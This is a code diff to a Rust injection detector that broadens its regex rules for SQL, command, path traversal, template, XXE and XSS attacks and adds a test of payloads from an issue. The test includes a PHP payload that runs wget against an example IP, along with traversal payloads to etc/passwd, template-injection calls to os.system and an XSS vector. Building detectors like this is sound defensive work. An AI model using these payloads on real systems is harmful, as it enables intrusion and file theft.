@@ -69,7 +69,7 @@ const RULES: &[(Class, &str, &str)] = &[
     (
         Class::Sql,
         "sql.quote_boolean",
-        r#"(['"]\s*\)*|\d\s*\)+)\s*(or|and|xor|\|\||&&)\s*(\(\s*)?(['"`]?\w*['"`]?\s*(=|<>|!=|<=>|>|<|\blike\b|\bis\s+(not\s+)?null\b|\bin\s*\(|\bbetween\b)|\d+\s*(=|>|<|-)|true\b|false\b|not\b|\d+\s*$|sleep|exists)"#,
+        r#"(['"]\s*\)*|\d\s*\)+)\s*(or|and|xor|\|\||&&)\s*(\(\s*)?(['"`]?\w*['"`]?\s*(=|<>|!=|<=>|>|<|\blike\b|\bis\s+(not\s+)?null\b|\bin\s*\(|\bbetween\b)|\d+\s*(=|>|<|-)|true\b|false\b|not\b|\d+\s*$|sleep|exists|['"]{2}\s*[-&^*|=<>+ '"])|^\s*'\s*[-&^*|+%/]\s*'\s*$|^\s*"\s*[-&^*|+%/]\s*"\s*$"#,
     ),
     (Class::Sql, "sql.numeric_tautology", r#"(^|=)\s*-?\d+\s*\)?\s*(or|and|\|\|)\s+(\d+\s*(=|<|>)\s*\d+|true|sleep)"#),
     (Class::Sql, "sql.comment_terminator", r#"['"]\s*\)*\s*(;\s*)?(--(\s|$|\+|&)|#\s*$|/\*|;%00|\x00)"#),
@@ -86,7 +86,7 @@ const RULES: &[(Class, &str, &str)] = &[
     (
         Class::Sql,
         "sql.inference",
-        r#"\b(elt|make_set|iif|gtid_subset|extractvalue|updatexml|json_keys|uuid_to_bin|bit_shift|bin_shl|rotateleft|zeroifnull|parse_data_size|regexp_substring|generate_series|to_number|xmltype|raise_error|randomblob|crypt_key|if|nullif|ifnull|coalesce)\s*\(\s*\(?\s*\d+\s*(=|like)\s*\d+|\(\s*case\s+(\d+\s+)?when\b|\bcase\s+when\s*\(?\s*\d+\s*(=|like)\s*\d+|\(\s*select\s+(\d|\*|'|"|count\s*\(|case\b|concat|char|chr|\(|[a-z_]+\s*\()|\bselect\b.{0,100}\bfrom\s+(dual|sysibm\.|sys\.|rdb\$database|information_schema\.|generate_series|all_users|sysusers|sysobjects|mysql\.|pg_|sysmaster:|numbers\s*\()|in\s+boolean\s+mode\s*\)|['"]\s*(\|\||\+)\s*\(\s*select\b|\bwaitfor\s+(delay|time)\s+(['@]|\d)|\bdeclare\s+@\w+|exp\s*\(\s*~|(^|\d|['")])\s*;\s*(select|declare|waitfor|exec|call|iif|shutdown|drop|insert|update|delete)\b"#,
+        r#"\b(elt|make_set|iif|gtid_subset|extractvalue|updatexml|json_keys|uuid_to_bin|bit_shift|bin_shl|rotateleft|zeroifnull|parse_data_size|regexp_substring|generate_series|to_number|xmltype|raise_error|randomblob|crypt_key|if|nullif|ifnull|coalesce)\s*\(\s*\(?\s*\d+\s*(=|like)\s*\d+|\(\s*case\s+(\d+\s+)?when\b|\bcase\s+when\s*\(?\s*\d+\s*(=|like)\s*\d+|\(\s*select\s+(\d|\*|'|"|count\s*\(|case\b|concat|char|chr|\(|[a-z_]+\s*\()|\bselect\b[^;]*\bfrom\s+(dual|sysibm\.|sys\.|rdb\$database|information_schema\.|generate_series|all_users|sysusers|sysobjects|mysql\.|pg_|sysmaster:|numbers\s*\()|in\s+boolean\s+mode\s*\)|['"]\s*(\|\||\+)\s*\(\s*select\b|\bwaitfor\s+(delay|time)\s+(['@]|\d)|\bdeclare\s+@\w+|exp\s*\(\s*~|(^|\d|['")])\s*;\s*(select|declare|waitfor|exec|call|iif|shutdown|drop|insert|update|delete)\b"#,
     ),
     (
         Class::Sql,
@@ -107,7 +107,7 @@ const RULES: &[(Class, &str, &str)] = &[
     (
         Class::Command,
         "command.substitution",
-        r#"\$\((\s*[a-z/`])|(^|[^\s\[(`'"])`\s*((/[\w.-]+)*/)?(id|whoami|uname|ls|cat|curl|wget|sleep|ping|echo|nslookup|hostname|nc|bash|sh|env|pwd|ifconfig|netstat|ps|python|perl|php|ruby|dir|type|set)(\s[^`]{0,100})?`|^\s*`\s*((/[\w.-]+)*/)?(id|whoami|uname|ls|cat|curl|wget|sleep|ping|echo|nslookup|hostname|nc|bash|sh|env|pwd|ifconfig|netstat|python|perl|php|ruby)(\s[^`]{0,100})?`\s*$|^\s*(whoami|ifconfig|ipconfig|uname\s+-a|netstat\s+-an|/usr/bin/id|/bin/id)\s*;?\s*$|^\s*((/[\w.-]+)*/)?(cat|ls|id|wget|curl|nc|ncat|bash|sh|rm|chmod|ping|nslookup|whoami|uname|sleep|python[23]?|perl|php|ruby|powershell|cmd(\.exe)?|netstat|ifconfig|ipconfig)\s+(-{1,2}[a-z]+\b|/[a-z]|[a-z]:\\|\\\\|\$|~/|\.\.?/|\d+\s*$)"#,
+        r#"\$\((\s*[a-z/`])|(^|[^\s\[(`'"])`((/[\w.-]+)*/)?(id|whoami|uname|ls|cat|curl|wget|sleep|ping|echo|nslookup|hostname|nc|bash|sh|env|pwd|ifconfig|netstat|ps|python|perl|php|ruby|dir|type|set)(\s[^`]*)?`|^\s*`\s*((/[\w.-]+)*/)?(id|whoami|uname|ls|cat|curl|wget|sleep|ping|echo|nslookup|hostname|nc|bash|sh|env|pwd|ifconfig|netstat|python|perl|php|ruby)(\s[^`]*)?`\s*$|^\s*(whoami|ifconfig|ipconfig(\s+/all)?|uname\s+-a|netstat\s+-an?|/usr/bin/id|/bin/id|sysinfo|systeminfo)\s*;?\s*$|^\s*(curl|wget)\s+(-\S+\s+)*https?://|^\s*(dir|type)\s+[a-z]:\\|(^|[;|&\n`]|\$\()\s*(net\s+(user|localgroup|group|view|share|use|accounts)\b|netsh\s+(firewall|advfirewall|interface|wlan)\b|reg\s+(add|delete|query|save)\s+['"]?hk|sysinfo\b|systeminfo\b)|^\s*((/[\w.-]+)*/)?(cat|ls|id|wget|curl|nc|ncat|bash|sh|rm|chmod|ping|nslookup|whoami|uname|sleep|python[23]?|perl|php|ruby|powershell|cmd(\.exe)?|netstat|ifconfig|ipconfig)\s+(-{1,2}[a-z]+\b|/[a-z]|[a-z]:\\|\\\\|\$|~/|\.\.?/|\d+\s*$)"#,
     ),
     (
         Class::Command,
@@ -117,7 +117,7 @@ const RULES: &[(Class, &str, &str)] = &[
     (
         Class::Command,
         "command.code_evaluation",
-        r#"<\?(php\b|=)|\b(system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|eval|assert|os\.system|os\.popen|subprocess\.\w+|execsync|spawnsync|execfile|runtime\.getruntime\(\)\.exec|check_output)\s*\(\s*(['"`$\[]|compile\b|base64_decode|atob|\$_)|\b(require|import)\s*\(\s*['"]child_process['"]\s*\)|__import__\s*\(\s*['"](os|subprocess|pty)['"]\s*\)|\$\{@\w+\(|\(\)\s*\{\s*[:_]\s*;?\s*\}|\bexit\s*\(\s*md5\s*\(|\bphpinfo\s*\(\s*\)|process\.mainmodule|\bchild_process\b.{0,20}\bexec"#,
+        r#"<\?(php\b|=)|\b(system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|eval|assert|os\.system|os\.popen|subprocess\.\w+|execsync|spawnsync|execfile|runtime\.getruntime\(\)\.exec|check_output)\s*\(\s*(['"`$\[]|compile\b|base64_decode|atob|\$_)|\b(require|import)\s*\(\s*['"]child_process['"]\s*\)|__import__\s*\(\s*['"](os|subprocess|pty)['"]\s*\)|\$\{@\w+\(|\(\)\s*\{\s*[:_]\s*;?\s*\}|\bexit\s*\(\s*md5\s*\(|\bphpinfo\s*\(\s*\)|process\.mainmodule|\bchild_process\b[^;]*\bexec|\$_(get|post|request|cookie|server|files)\s*\[|\{\$\{[^}]*\(|<!--\s*#\s*(exec|include|echo|printenv|config)\b|\b(phpinfo|phpversion|php_uname|get_current_user|posix_getpwuid)\s*\(\s*\)"#,
     ),
     (
         Class::Command,
@@ -128,12 +128,12 @@ const RULES: &[(Class, &str, &str)] = &[
     (
         Class::PathTraversal,
         "path.dot_dot",
-        r#"(\.{2,}[/\\;]+){2,}|(^|[/\\=:'\s])\.\.;?[/\\]+(etc|proc|var|usr|root|home|windows|winnt|boot|opt|tmp|web-inf|inetpub|system32)\b|\.\.[/\\]+\.\.\b|(\.\./|\.\.\\)+[\w.-]+\.(ini|conf|config|xml|log|php|asp|aspx|jsp|env|ini|htaccess|htpasswd|passwd|properties|yml|yaml|key|pem)\b|(\.\.[/\\]){1,}\.?[\w-]*(passwd|shadow|hosts|win\.ini|boot\.ini)"#,
+        r#"(\.{2,}%?[/\\;]+){2,}|(^|[/\\=:'\s])\.\.;?[/\\]+(etc|proc|var|usr|root|home|windows|winnt|boot|opt|tmp|web-inf|inetpub|system32)\b|\.\.[/\\]+\.\.\b|(\.\./|\.\.\\)+[\w.-]+\.(ini|conf|config|xml|log|php|asp|aspx|jsp|env|ini|htaccess|htpasswd|passwd|properties|yml|yaml|key|pem)\b|(\.\.[/\\]){1,}\.?[\w-]*(passwd|shadow|hosts|win\.ini|boot\.ini)"#,
     ),
     (
         Class::PathTraversal,
         "path.sensitive_file",
-        r#"(^|[/\\=:'`\s])(etc[/\\](passwd|shadow|group|hosts|issue|sudoers|services|motd|crontab|fstab|mtab|hostname|resolv\.conf|apache2|httpd|nginx|mysql|ssh)|proc[/\\](self|\d+)[/\\](environ|cmdline|maps|fd|mem|root|status|cwd)|windows[/\\](win\.ini|system32|system\.ini|repair|panther)|boot\.ini|\.aws[/\\]credentials|\.ssh[/\\](id_\w+|authorized_keys|known_hosts)|var[/\\]task[/\\]|var[/\\]runtime[/\\]|\.env\b|web-inf[/\\]|web\.config|wp-config\.php|\.bash_history|\.htpasswd|var[/\\]log[/\\]|::\$data\b|[a-z]:[/\\](windows|winnt|boot\.ini|inetpub)|\\\\[\w.-]+\\[\w$]+)"#,
+        r#"(^|[/\\=:'`])(etc[/\\](passwd|shadow|group|hosts|issue|sudoers|services|motd|crontab|fstab|mtab|hostname|resolv\.conf|apache2|httpd|nginx|mysql|ssh)|proc[/\\](self|\d+)[/\\](environ|cmdline|maps|fd|mem|root|status|cwd)|windows[/\\](win\.ini|system32|system\.ini|repair|panther)|boot\.ini|\.aws[/\\]credentials|\.ssh[/\\](id_\w+|authorized_keys|known_hosts)|var[/\\]task[/\\]|var[/\\]runtime[/\\]|\.env\b|web-inf[/\\]|web\.config|wp-config\.php|\.bash_history|\.htpasswd|\.htaccess\b|var[/\\]log[/\\]|::\$data\b|[a-z]:[/\\](windows|winnt|boot\.ini|inetpub)|\\\\[\w.-]+\\[\w$]+)"#,
     ),
     (
         Class::PathTraversal,
@@ -166,28 +166,28 @@ const RULES: &[(Class, &str, &str)] = &[
     (
         Class::Template,
         "template.arithmetic",
-        r#"\{\{\s*\d+\s*[*+/-]\s*['\d]+\s*\}\}|\$\{\s*\d+\s*[*+/-]\s*\d+\s*\}|#\{\s*\d+\s*[*+/-]\s*\d+\s*\}|<%=?\s*\d+\s*[*+/-]\s*\d+\s*%>|\$\{\{\s*\d+\s*[*+/-]\s*\d+\s*\}\}|\[\[\s*\$\{\s*\d|\{\s*\d+\s*\*\s*\d+\s*\}\}|@\(\s*\d+\s*[*+]\s*\d+\s*\)|[*@]\{\s*\d+\s*[*+/-]\s*\d+\s*\}|\$\{\s*\d+\s*[*+/-]\s*['"]\d+['"]\s*\}|(^|[^\w$#*@{])\{\s*\d+\s*\*\s*\d+\s*\}|\{\*[^}]{0,100}\*\}|\$\{\s*["'][^}]*["']\s*\.\s*\w+\s*\("#,
+        r#"\{\{\s*\d+\s*[*+/-]\s*['\d]+\s*\}\}|\$\{\s*\d+\s*[*+/-]\s*\d+\s*\}|#\{\s*\d+\s*[*+/-]\s*\d+\s*\}|<%=?\s*\d+\s*[*+/-]\s*\d+\s*%>|\$\{\{\s*\d+\s*[*+/-]\s*\d+\s*\}\}|\[\[\s*\$\{\s*\d|\{\s*\d+\s*\*\s*\d+\s*\}\}|@\(\s*\d+\s*[*+]\s*\d+\s*\)|[*@]\{\s*\d+\s*[*+/-]\s*\d+\s*\}|\$\{\s*\d+\s*[*+/-]\s*['"]\d+['"]\s*\}|(^|[^\w$#*@{])\{\s*\d+\s*\*\s*\d+\s*\}|\{\*[^}]*\*\}|\$\{\s*["'][^}]*["']\s*\.\s*\w+\s*\("#,
     ),
     (
         Class::Template,
         "template.object_walk",
-        r#"\{\{.{0,200}(__class__|__mro__|__subclasses__|__globals__|__builtins__|__init__|__import__|config\.items|request\.application|\blipsum\b|\bcycler\b|\bjoiner\b|self\._|\|attr\s*\(|popen|getattribute)|\{%.{0,200}(import|__class__|popen|system).{0,200}%\}"#,
+        r#"\{\{[^}]*(__class__|__mro__|__subclasses__|__globals__|__builtins__|__init__|__import__|config\.items|request\.application|\blipsum\b|\bcycler\b|\bjoiner\b|self\._|\|attr\s*\(|popen|getattribute)|\{%[^%]*(import|__class__|popen|system)[^%]*%\}"#,
     ),
     (
         Class::Template,
         "template.java_el",
-        r#"[$#*@]\{[^}]{0,200}(t\s*\(\s*java\.|getclass\s*\(|getruntime|java\.lang\.|new\s+java|freemarker\.template|\.forname\s*\(|processbuilder|classloader|getmethod)|<#assign|\?new\s*\(\)|\$class\.inspect|#set\s*\(\s*\$\w+\s*=|\{php\}|\{\{\s*constructor\.constructor|<%=?\s*(system|exec|runtime|`|process|require|global\.)"#,
+        r#"[$#*@]\{[^}]*(t\s*\(\s*java\.|getclass\s*\(|getruntime|java\.lang\.|new\s+java|freemarker\.template|\.forname\s*\(|processbuilder|classloader|getmethod)|<#assign|\?new\s*\(\)|\$class\.inspect|#set\s*\(\s*\$\w+\s*=|\{php\}|\{\{\s*constructor\.constructor|<%=?\s*(system|exec|runtime|`|process|require|global\.)"#,
     ),
     (
         Class::Template,
         "template.expression_exec",
-        r#"[$#*@%]\{[^}]{0,300}(\bos\.(system|popen)|__import__|self\.module|\.system\s*\(|popen|getruntime|\.exec\s*\(|@java\.|#_memberaccess|\bt\s*\(|applicationscope|pagecontext|\.getclass\s*\(|\.forname\s*\(|`)|\{\{.{0,300}(\|\s*(filter|map|reduce|sort)\s*\(\s*['"](system|exec|passthru|shell_exec|popen)|_self\.env|registerundefinedfiltercallback|\bdump\s*\(|\bapp\.request|file_excerpt|constructor|\bprocess\b|child_process|__\w+__|\bmro\b|subclasses|globals|builtins|get_flashed_messages|url_for\.|\brange\.constructor)|\{\{\s*(config|self|request\.environ|settings|_self|_context|app)\s*(\}\}|\.(items|__|env|request))|\{\{#with\b.{0,300}\b(constructor|lookup)\b|\$\{\{?\s*<%|\{\{=?\s*\d+\s*\*|<%=?[^%]{0,200}(\bsystem\b|\bexec\b|`|popen|file\.(open|read)|dir\.entries|\beval\b|\brequire\b|\bprocess\b|open3|\bimport\b|\bos\.)|\{php\}|\{system\(|\$smarty\.|smarty_internal|<#if\b|\[#assign\b|\{\{\s*(printf|\.request|\.env)\b|\{\{\s*\.[a-z]+\s*\}\}|@system\.diagnostics"#,
+        r#"[$#*@%]\{[^}]*(\bos\.(system|popen)|__import__|self\.module|\.system\s*\(|popen|getruntime|\.exec\s*\(|@java\.|#_memberaccess|\bt\s*\(|applicationscope|pagecontext|\.getclass\s*\(|\.forname\s*\(|`)|\{\{[^}]*(\|\s*(filter|map|reduce|sort)\s*\(\s*['"](system|exec|passthru|shell_exec|popen)|_self\.env|registerundefinedfiltercallback|\bdump\s*\(|\bapp\.request|file_excerpt|constructor|\bprocess\b|child_process|__\w+__|\bmro\b|subclasses|globals|builtins|get_flashed_messages|url_for\.|\brange\.constructor)|\{\{\s*(config|self|request|settings|_self|_context|app)\s*(\}\}|\.(items|__|env|environ|request|application|args|iteritems))|\{\{\s*['"][^'"]*['"]\s*\.\s*\w+\s*\(|\{%[^%]*\b(config|request|self|settings|lipsum|cycler|namespace)\s*[.\[]|getclass\s*\(\s*\)\s*\.\s*forname\s*\(|scriptenginemanager|new\s+java\.lang\.processbuilder|\{\{#with\b[^}]*\}\}.*\b(constructor|lookup)\b|\$\{\{?\s*<%|\{\{=?\s*\d+\s*\*|<%=?[^%]*(\bsystem\b|\bexec\b|`|popen|file\.(open|read)|dir\.entries|\beval\b|\brequire\b|\bprocess\b|open3|\bimport\b|\bos\.)|\{php\}|\{system\(|\$smarty\.|smarty_internal|<#if\b|\[#assign\b|\{\{\s*(printf|\.request|\.env)\b|\{\{\s*\.[a-z]+\s*\}\}|@system\.diagnostics"#,
     ),
     // XML external entities and XInclude.
     (
         Class::Xxe,
         "xxe.entity",
-        r#"<!doctype[^>]{0,200}\[|<!doctype\s+[\w:.-]+\s+(system|public)\s+['"]|<!entity\s+(%\s*)?[\w.-]+\s+(system|public)\b|<!entity\s+%|xmlns:xi\s*=\s*['\x22]http://www\.w3\.org/2001/xinclude|<xi:include\b"#,
+        r#"<!doctype[^>]*\[|<!doctype\s+[\w:.-]+\s+(system|public)\s+['"]|<!entity\s+(%\s*)?[\w.-]+\s+(system|public)\b|<!entity\s+%|xmlns:xi\s*=\s*['\x22]http://www\.w3\.org/2001/xinclude|<xi:include\b"#,
     ),
     // Insecure deserialization gadgets and markers.
     (
@@ -225,7 +225,7 @@ const RULES: &[(Class, &str, &str)] = &[
     (
         Class::Xss,
         "xss.markup",
-        r#"<\s*/?\s*(script|iframe|svg|img|body|object|embed|applet|meta|link|style|base|form|input|details|marquee|video|audio|source|math|isindex|frameset|frame|xss|x|a|div|table|bgsound|layer|ilayer|xml|html|title|textarea|keygen|select|button|template|animate|set|image)\b[^>]{0,300}\bon[a-z]{3,}\s*=|<\s*script\b|\bjavascript\s*:|\bvbscript\s*:|\blivescript\s*:|data\s*:\s*text/html|<\s*(iframe|frame|embed|object|applet|meta\s+http-equiv|base\s+href|svg|math|xss|isindex)\b|['"]\s*/?>\s*<\s*[a-z]+|['"`]\s*(autofocus\s+)?on(error|load|mouseover|focus|click|toggle|begin|start|mouseenter|animationstart|pointerover)\s*=|[:=]\s*expression\s*\(|@import\b|<!\[cdata\[<\]\]>|\bstring\.fromcharcode\s*\(|\bdocument\.(cookie|domain|write|location)|\b(alert|prompt|confirm)\s*(\(|`)[^)`]{0,40}[)`]|<\?import\b|<[a-z]+[^>]*\s(src|href|data|action|formaction)\s*=\s*['"]?\s*(javascript|data):"#,
+        r#"<\s*/?\s*(script|iframe|svg|img|body|object|embed|applet|meta|link|style|base|form|input|details|marquee|video|audio|source|math|isindex|frameset|frame|xss|x|a|div|table|bgsound|layer|ilayer|xml|html|title|textarea|keygen|select|button|template|animate|set|image)\b[^>]*\bon[a-z]{3,}\s*=|<\s*script\b|\bjavascript\s*:|\bvbscript\s*:|\blivescript\s*:|data\s*:\s*text/html|<\s*(iframe|frame|embed|object|applet|meta\s+http-equiv|base\s+href|svg|math|xss|isindex)\b|['"]\s*/?>\s*<\s*[a-z]+|['"`]\s*(autofocus\s+)?on(error|load|mouseover|focus|click|toggle|begin|start|mouseenter|animationstart|pointerover)\s*=|[:=]\s*expression\s*\(|@import\b|<!\[cdata\[<\]\]>|\bstring\.fromcharcode\s*\(|\bdocument\.(cookie|domain|write|location)|\b(alert|prompt|confirm)\s*(\(|`)[^)`]*[)`]|<\?import\b|<[a-z]+[^>]*\s(src|href|data|action|formaction)\s*=\s*['"]?\s*(javascript|data):"#,
     ),
 ];
 
@@ -250,6 +250,11 @@ pub struct InjectionMatcher {
     /// `AND 4386=4386`, `WHERE (7=7)`: a number compared with itself after a SQL word (checked in code:
     /// the regex crate has no back-references).
     equality: Regex,
+    /// Forms worth libinjection's SQL tokeniser: a quote, or a leading number or parenthesis, before a
+    /// SQL word. The tokenisers cost microseconds a call; most strings need none.
+    sql_gate: Regex,
+    /// Forms worth the HTML5 tokeniser: markup, an event handler, a script URL or CSS expression.
+    xss_gate: Regex,
     rules: Vec<(Class, &'static str, Regex)>,
 }
 
@@ -261,20 +266,38 @@ impl Default for InjectionMatcher {
 
 impl InjectionMatcher {
     pub fn new() -> Self {
-        let set = RegexSet::new(RULES.iter().map(|(_, _, p)| *p)).expect("the injection rules compile");
+        let set =
+            // The lazy DFA of the whole set needs more than the default 2 MiB cache: below what it needs,
+            // the set runs in the PikeVM instead, about a hundred times slower.
+            regex::RegexSetBuilder::new(RULES.iter().map(|(_, _, p)| ascii_boundaries(p)))
+                .dfa_size_limit(64 << 20)
+                .size_limit(64 << 20)
+                .build()
+                .expect("the injection rules compile");
         let rules = RULES
             .iter()
-            .map(|(class, name, pattern)| (*class, *name, Regex::new(pattern).expect("the injection rules compile")))
+            .map(|(class, name, pattern)| {
+                (*class, *name, Regex::new(&ascii_boundaries(pattern)).expect("the injection rules compile"))
+            })
             .collect();
-        let equality =
-            Regex::new(r"(\b(and|or|xor|when|where|having|not|if|elt)\s*\(?|\(\s*)\s*(\d+)\s*(=|like|<=>)\s*(\d+)\b")
-                .expect("the equality rule compiles");
-        InjectionMatcher { set, rules, equality }
+        let equality = Regex::new(&ascii_boundaries(
+            r"(\b(and|or|xor|when|where|having|not|if|elt)\s*\(?|\(\s*)\s*(\d+)\s*(=|like|<=>)\s*(\d+)\b",
+        ))
+        .expect("the equality rule compiles");
+        let sql_gate = Regex::new(&ascii_boundaries(
+            r#"(['"`]|^\s*[-+]?[\d)]).*\b(or|and|xor|union|select|like|rlike|regexp|sleep|case|having|order|group|where|exec|declare|waitfor|benchmark|procedure|into|from|if|elt|null|not|limit|div|is|in|between)\b|\b(union|select)\b"#,
+        ))
+        .expect("the SQL gate compiles");
+        let xss_gate =
+            Regex::new(&ascii_boundaries(r#"<|\bon[a-z]+\s*=|javascript|vbscript|data\s*:|expression\s*\(|style\s*="#))
+                .expect("the XSS gate compiles");
+        InjectionMatcher { set, rules, equality, sql_gate, xss_gate }
     }
 
     /// Matches one text (all its decoded forms); at most one hit per class.
     pub fn scan_text(&self, field: &str, text: &str, out: &mut Vec<Hit>) {
-        if text.len() < 4 {
+        // `;id` and `|id` are three characters.
+        if text.len() < 3 {
             return;
         }
         for form in decode::forms(text) {
@@ -301,9 +324,7 @@ impl InjectionMatcher {
     fn tokenised(&self, field: &str, form: &str, out: &mut Vec<Hit>) {
         let bytes = form.as_bytes();
         if !out.iter().any(|h| h.class == Class::Sql)
-            && bytes
-                .iter()
-                .any(|b| matches!(b, b'\'' | b'"' | b'`' | b'#' | b'-' | b';' | b'(' | b'=' | b'/' | b'|' | b'&'))
+            && self.sql_gate.is_match(form)
             && sql_fingerprint_breaks_out(&libinjectionrs::detect_sqli(bytes))
         {
             out.push(Hit {
@@ -313,7 +334,7 @@ impl InjectionMatcher {
                 snippet: snippet(form, 0, 0),
             });
         }
-        if !out.iter().any(|h| h.class == Class::Sql) {
+        if !out.iter().any(|h| h.class == Class::Sql) && (form.contains('=') || form.contains(" like ")) {
             if let Some(at) = self.self_equality_at(form) {
                 out.push(Hit {
                     class: Class::Sql,
@@ -324,7 +345,7 @@ impl InjectionMatcher {
             }
         }
         if !out.iter().any(|h| h.class == Class::Xss)
-            && bytes.iter().any(|b| matches!(b, b'<' | b'='))
+            && self.xss_gate.is_match(form)
             && libinjectionrs::detect_xss(bytes).is_injection()
         {
             out.push(Hit {
@@ -422,6 +443,13 @@ fn sql_fingerprint_breaks_out(result: &libinjectionrs::DetectionResult) -> bool 
         && !fingerprint.starts_with("son")
 }
 
+/// A pattern with ASCII word boundaries (`(?-u:\b)`) for `\b`. A Unicode word boundary makes the
+/// regex crate's lazy DFA give up on any non-ASCII text, and the rule set then runs in the PikeVM, a
+/// hundred times slower (the security bench fell to 1,000 invocations a second). Payload syntax is ASCII.
+fn ascii_boundaries(pattern: &str) -> String {
+    pattern.replace(r"\b", r"(?-u:\b)")
+}
+
 /// The first JSON object or array inside a text (at its first `{`, else its first `[`), with where it
 /// starts and ends.
 fn embedded_json(text: &str) -> Option<(usize, usize, Value)> {
@@ -499,6 +527,33 @@ mod tests {
         for text in ["", "\u{0}", "%%%%", "${${${${", "<!--", "\u{feff}\u{202e}' or '1'='1"] {
             let _ = matcher.scan_payload(text);
         }
+    }
+
+    /// The misses and the false positive named in issue 22, each in the query string of an event.
+    #[test]
+    fn the_payloads_issue_22_named_are_found_and_its_prose_is_not() {
+        let in_query = |value: &str| {
+            let event = serde_json::json!({"queryStringParameters": {"q": value}});
+            InjectionMatcher::new().scan_payload(&event.to_string()).into_iter().map(|h| h.class).collect::<Vec<_>>()
+        };
+        for (value, class) in [
+            (r#"${self.module.cache.compat.inspect.linecache.os.system("id")}"#, Class::Template),
+            ("||/usr/bin/id;", Class::Command),
+            ("|/bin/ls -al", Class::Command),
+            (r#"<?php system("wget http://203.0.113.9/x.txt -O x.php");?>"#, Class::Command),
+            ("system('cat config.php');", Class::Command),
+            (r#"{"$gt": ""}"#, Class::NoSql),
+            ("{ $ne: 1 }", Class::NoSql),
+            ("' OR x=x-- ", Class::Sql),
+            ("' OR 1=0#", Class::Sql),
+            ("' ORDER BY 26 ", Class::Sql),
+            ("..%c0%2f..%c0%2f..%c0%2fetc/passwd", Class::PathTraversal),
+            ("%uff0e%uff0e%u2216%uff0e%uff0e%u2216windows%u2216win.ini", Class::PathTraversal),
+            ("<svg/onload=alert(1)>", Class::Xss),
+        ] {
+            assert!(in_query(value).contains(&class), "{value}: {:?}", in_query(value));
+        }
+        assert!(in_query("splittag('/path#tag') --> '/path', 'tag'.").is_empty());
     }
 
     #[test]
